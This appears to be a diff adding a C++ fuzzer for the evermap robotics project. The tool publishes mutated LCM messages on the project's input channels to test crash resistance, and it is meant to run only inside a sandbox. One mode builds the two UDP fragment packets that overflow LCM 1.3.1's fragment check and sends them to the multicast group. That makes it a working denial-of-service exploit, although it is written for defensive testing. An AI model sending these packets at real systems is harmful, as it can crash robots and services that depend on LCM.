@@ -1,0 +1,208 @@
+// evermap-lcm-fuzz: publishes hostile messages on evermap's channels, as an attacker on the
+// multicast group would (issue 17), to test that no packet kills a process. Run it inside
+// scripts/lcm-sandbox only (it publishes on LCM_DEFAULT_URL).
+//
+// Per channel, `--count` messages: mutations (core/messages/mutate.h) of a message of the
+// channel's type (the first one on that channel in `--log`, else a default-constructed one).
+// `--fragment-attack` instead sends the two UDP packets that overflow LCM 1.3.1's fragment
+// check (fragment_offset = 0xffffff00) to the group of LCM_DEFAULT_URL.
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <functional>
+#include <map>
+#include <random>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include <lcm/lcm-cpp.hpp>
+
+#include <evermap/all_types.hpp>
+
+#include "core/common/command_line.h"
+#include "core/messages/channels.h"
+#include "core/messages/mutate.h"
+
+namespace {
+
+using namespace evermap;
+using Bytes = std::vector<uint8_t>;
+
+template <typename Msg>
+Bytes encodeDefault() {
+  Msg m{};
+  Bytes b(static_cast<size_t>(m.getEncodedSize()));
+  m.encode(b.data(), 0, static_cast<int>(b.size()));
+  return b;
+}
+
+// The type of each input channel (core/messages/channels.h).
+const std::map<std::string, std::function<Bytes()>>& channelTypes() {
+  static const std::map<std::string, std::function<Bytes()>> m = {
+      {channels::kStereo, encodeDefault<stereo_image_t>},
+      {channels::kStereoCalib, encodeDefault<stereo_calib_t>},
+      {channels::kImu, encodeDefault<imu_t>},
+      {channels::kWheelOdom, encodeDefault<wheel_odom_t>},
+      {channels::kVoDelta, encodeDefault<vo_delta_t>},
+      {channels::kKeyframe, encodeDefault<keyframe_t>},
+      {channels::kAttitude, encodeDefault<attitude_t>},
+      {channels::kFloor, encodeDefault<floor_t>},
+      {channels::kNodeAdded, encodeDefault<node_added_t>},
+      {channels::kRegisterRequest, encodeDefault<register_request_t>},
+      {channels::kRegisterResult, encodeDefault<register_result_t>},
+      {channels::kDeputyOrder, encodeDefault<deputy_order_t>},
+      {channels::kDeputyStatus, encodeDefault<deputy_status_t>},
+  };
+  return m;
+}
+
+// "udpm://239.255.76.67:7667?ttl=0..." -> address and port (LCM's defaults otherwise).
+bool lcmGroup(sockaddr_in* to) {
+  std::string url = std::getenv("LCM_DEFAULT_URL") ? std::getenv("LCM_DEFAULT_URL") : "";
+  std::string host = "239.255.76.67";
+  int port = 7667;
+  if (url.rfind("udpm://", 0) == 0) {
+    std::string rest = url.substr(7, url.find('?') == std::string::npos ? std::string::npos : url.find('?') - 7);
+    const size_t colon = rest.find(':');
+    if (!rest.empty()) host = rest.substr(0, colon);
+    if (colon != std::string::npos) port = std::atoi(rest.c_str() + colon + 1);
+  } else if (!url.empty()) {
+    return false;
+  }
+  std::memset(to, 0, sizeof *to);
+  to->sin_family = AF_INET;
+  to->sin_port = htons(static_cast<uint16_t>(port));
+  return inet_pton(AF_INET, host.c_str(), &to->sin_addr) == 1;
+}
+
+void put32(Bytes& b, size_t at, uint32_t v) {
+  for (int k = 0; k < 4; ++k) b[at + k] = static_cast<uint8_t>(v >> (24 - 8 * k));
+}
+
+// LCM 1.3.1's fragment header (lcm_udpm.c): "LC03" seqno msg_size offset no count.
+Bytes fragment(uint32_t seqno, uint32_t msg_size, uint32_t offset, uint16_t no, uint16_t count,
+               const std::string& channel, size_t payload) {
+  Bytes b(20);
+  put32(b, 0, 0x4c433033);
+  put32(b, 4, seqno);
+  put32(b, 8, msg_size);
+  put32(b, 12, offset);
+  b[16] = static_cast<uint8_t>(no >> 8);
+  b[17] = static_cast<uint8_t>(no);
+  b[18] = static_cast<uint8_t>(count >> 8);
+  b[19] = static_cast<uint8_t>(count);
+  if (no == 0) {
+    b.insert(b.end(), channel.begin(), channel.end());
+    b.push_back(0);
+  }
+  b.resize(b.size() + payload, 0x41);
+  return b;
+}
+
+int fragmentAttack(const std::vector<std::string>& channel_list) {
+  sockaddr_in to{};
+  if (!lcmGroup(&to)) {
+    std::fprintf(stderr, "evermap-lcm-fuzz: LCM_DEFAULT_URL is not udpm://ADDR:PORT\n");
+    return 2;
+  }
+  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
+  if (fd < 0) {
+    std::perror("evermap-lcm-fuzz: socket");
+    return 1;
+  }
+  const unsigned char ttl = 0;
+  setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
+  uint32_t seqno = 0x5eed0000;
+  int sent = 0;
+  for (const std::string& ch : channel_list) {
+    const Bytes first = fragment(seqno, 100000, 0, 0, 2, ch, 1000);
+    const Bytes evil = fragment(seqno, 100000, 0xffffff00u, 1, 2, ch, 1000);
+    ++seqno;
+    for (const Bytes* b : {&first, &evil}) {
+      if (sendto(fd, b->data(), b->size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) ==
+          static_cast<ssize_t>(b->size()))
+        ++sent;
+    }
+  }
+  close(fd);
+  std::printf("fragment_packets_sent %d\n", sent);
+  return 0;
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  std::string channel_text, log_file;
+  int64_t count = 1000;
+  int64_t seed = 1;
+  double rate_hz = 2000.0;
+  bool fragment_attack = false;
+  CommandLine cli("evermap-lcm-fuzz",
+                  "Hostile messages on evermap's input channels (inside scripts/lcm-sandbox only).");
+  cli.value("--channels", &channel_text, "A,B,...", "the channels to fuzz", /*required=*/true);
+  cli.value("--count", &count, "N", "messages per channel (default 1000)");
+  cli.value("--seed", &seed, "S", "random seed (default 1): the same seed sends the same bytes");
+  cli.value("--rate-hz", &rate_hz, "HZ", "messages per second over all channels (default 2000; 0: as fast as possible)");
+  cli.value("--log", &log_file, "LOG", "mutate the first message of each channel in this LCM log");
+  cli.flag("--fragment-attack", &fragment_attack,
+           "send the 2-packet LCM 1.3.1 fragment overflow on each channel instead");
+  if (const int code = cli.parseOrExit(argc, argv); code >= 0) return code;
+  if (count < 0 || count > 100'000'000 || !(rate_hz >= 0.0) || rate_hz > 1e7) {
+    std::fprintf(stderr, "evermap-lcm-fuzz: --count must be in [0, 1e8] and --rate-hz in [0, 1e7]\n");
+    return 2;
+  }
+  std::vector<std::string> channel_list;
+  std::stringstream ss(channel_text);
+  for (std::string c; std::getline(ss, c, ',');) {
+    if (!channelTypes().count(c)) {
+      std::fprintf(stderr, "evermap-lcm-fuzz: --channels: unknown input channel \"%s\"\n", c.c_str());
+      return 2;
+    }
+    channel_list.push_back(c);
+  }
+  if (fragment_attack) return fragmentAttack(channel_list);
+
+  std::map<std::string, Bytes> seeds;
+  for (const std::string& c : channel_list) seeds[c] = channelTypes().at(c)();
+  if (!log_file.empty()) {
+    lcm::LogFile log(log_file, "r");
+    if (!log.good()) {
+      std::fprintf(stderr, "evermap-lcm-fuzz: %s: cannot open as an LCM log\n", log_file.c_str());
+      return 2;
+    }
+    std::map<std::string, bool> taken;
+    for (const lcm::LogEvent* ev = log.readNextEvent(); ev; ev = log.readNextEvent()) {
+      if (seeds.count(ev->channel) && !taken[ev->channel]) {
+        const auto* p = static_cast<const uint8_t*>(ev->data);
+        seeds[ev->channel] = Bytes(p, p + ev->datalen);
+        taken[ev->channel] = true;
+      }
+    }
+  }
+  lcm::LCM lcm;
+  if (!lcm.good()) {
+    std::fprintf(stderr, "evermap-lcm-fuzz: cannot open LCM\n");
+    return 1;
+  }
+  std::mt19937_64 rng(static_cast<uint64_t>(seed));
+  const auto start = std::chrono::steady_clock::now();
+  int64_t sent = 0;
+  for (int64_t k = 0; k < count; ++k) {
+    for (const std::string& c : channel_list) {
+      const Bytes b = messages::mutateLcm(seeds[c], rng);
+      lcm.publish(c, b.data(), static_cast<unsigned>(b.size()));
+      ++sent;
+      if (rate_hz > 0.0) std::this_thread::sleep_until(start + std::chrono::duration<double>(sent / rate_hz));
+    }
+  }
+  std::printf("fuzzed_messages_sent %lld\n", static_cast<long long>(sent));
+  return 0;
+}
